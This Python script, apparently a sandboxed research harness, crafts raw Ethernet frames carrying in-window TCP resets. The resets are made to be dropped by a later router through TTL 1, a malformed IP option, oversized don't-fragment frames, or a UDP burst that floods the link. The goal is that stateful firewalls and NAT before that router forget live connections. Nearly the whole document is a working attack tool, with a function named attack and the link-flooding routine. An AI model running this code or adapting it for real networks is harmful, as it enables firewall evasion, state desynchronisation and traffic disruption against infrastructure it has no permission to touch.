#!/usr/bin/env python3
"""Run in a sandbox: opens TCP connections, and after each sends a reset that is within its window but that some router on
the way drops, so that only those before that router believe the connection to be over.

  lone_reset.py KIND COUNT   KIND: ttl (over at the first hop), option (malformed, IPv4), oversize (larger than the MTU,
                             not to be cut), large (larger than a later link's MTU), flooded (behind more than a slow
                             link takes), sent (a reset that arrives). Prints "opened N refused N echoed N": connections
                             that were made, that were refused at once, that still work after their reset.
  lone_reset.py hop          prints who answers a datagram with TTL 1, in each family
"""
import errno
import socket
import struct
import sys
import time

from inet_checksum import checksum

ADDRESSES = ("93.184.216.34", "2606:2800:220:1::34")
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
link.bind(("eth0", 3))


def last_ack(sport):
    """Ethernet header, source, destination, sequence and acknowledgement of the handshake's last segment"""
    until = time.monotonic() + 5
    link.settimeout(1)
    while time.monotonic() < until:
        try:
            frame = link.recv(2048)
        except socket.timeout:
            continue
        v4 = frame[12:14] == b"\x08\0"
        at = 14 + ((frame[14] & 15) * 4 if v4 else 40)
        proto = frame[23] if v4 else frame[20]
        if frame[12:14] not in (b"\x08\0", b"\x86\xdd") or proto != 6 or len(frame) < at + 20:
            continue
        source, _, sequence, answer = struct.unpack("!HHII", frame[at:at + 12])
        if source == sport and frame[at + 13] & 0x17 == 0x10:
            ends = (frame[26:30], frame[30:34]) if v4 else (frame[22:38], frame[38:54])
            return frame[:14], ends, sequence, answer
    raise SystemExit("no handshake seen")


def reset(kind, sport, dport):
    head, (source, to), sequence, answer = last_ack(sport)
    v4 = len(source) == 4
    hops = 1 if kind == "ttl" else 64
    size = {"oversize": 1504, "large": 1400}.get(kind, 0)
    payload = b"\0" * max(0, size - (40 if v4 else 60))
    flags = 0x04 if not payload else 0x14
    segment = struct.pack("!HHIIBBHHH", sport, dport, sequence, answer, 5 << 4, flags, 1024, 0, 0) + payload
    pseudo = source + to + (struct.pack("!BBH", 0, 6, len(segment)) if v4 else struct.pack("!II", len(segment), 6))
    segment = segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]
    if not v4:
        return head + struct.pack("!IHBB", 6 << 28, len(segment), 6, hops) + source + to + segment
    options = b"\x07\x03\x01\x00" if kind == "option" else b""  # record route, its pointer before its start
    ip = struct.pack("!BBHHHBBH4s4s", 0x40 | 5 + len(options) // 4, 0, 20 + len(options) + len(segment), 7, 0x4000, hops, 6,
                     0, source, to) + options
    return head + ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + segment


def fill(address):
    """More than the link takes in the next while"""
    filler = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM)
    filler.connect((address, 9))
    for _ in range(200):
        filler.send(b"\0" * 1400)


def drain():
    link.settimeout(0)
    try:
        while True:
            link.recv(2048)
    except BlockingIOError:
        pass


def connect(address):
    s = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(20)
    drain()
    s.connect((address, 7))
    return s


def echoes(s):
    try:
        s.settimeout(3)
        s.send(b"x")
        return s.recv(1) == b"x"
    except OSError:
        return False


def attack(kind, count):
    held, frames, refused = [], [], 0
    for i in range(count):
        address = ADDRESSES[0 if kind == "option" else i % 2]
        try:
            s = connect(address)
        except OSError as why:
            if why.errno != errno.ECONNREFUSED:
                raise
            refused += 1
            continue
        held.append(s)
        if kind == "flooded" and i >= count // 3:
            continue
        frames.append((address, reset(kind, s.getsockname()[1], 7)))
        if kind == "flooded" and i < count // 3 - 1:
            continue  # their resets are sent together, while the link is busy
        for to, frame in frames:
            if kind == "flooded":
                fill(to)
            link.send(frame)
        frames = []
        time.sleep(0.02)  # the kernel looks for flows that are over only once a tick
    time.sleep(0.2)
    echoed = sum(echoes(s) for s in held[:4]) if kind == "ttl" else 0
    print("opened", len(held), "refused", refused, "echoed", echoed, flush=True)
    time.sleep(300)


def hop():
    for address in ADDRESSES:
        v6 = ":" in address
        family = socket.AF_INET6 if v6 else socket.AF_INET
        ear = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_ICMPV6 if v6 else socket.IPPROTO_ICMP)
        ear.settimeout(5)
        s = socket.socket(family, socket.SOCK_DGRAM)
        s.setsockopt(socket.IPPROTO_IPV6 if v6 else socket.IPPROTO_IP, socket.IPV6_UNICAST_HOPS if v6 else socket.IP_TTL, 1)
        s.sendto(b"x", (address, 33434))
        while True:
            data, peer = ear.recvfrom(2048)
            if data[0 if v6 else 20] == (3 if v6 else 11):
                break
        print(peer[0])


if sys.argv[1] == "hop":
    hop()
else:
    attack(sys.argv[1], int(sys.argv[2]))
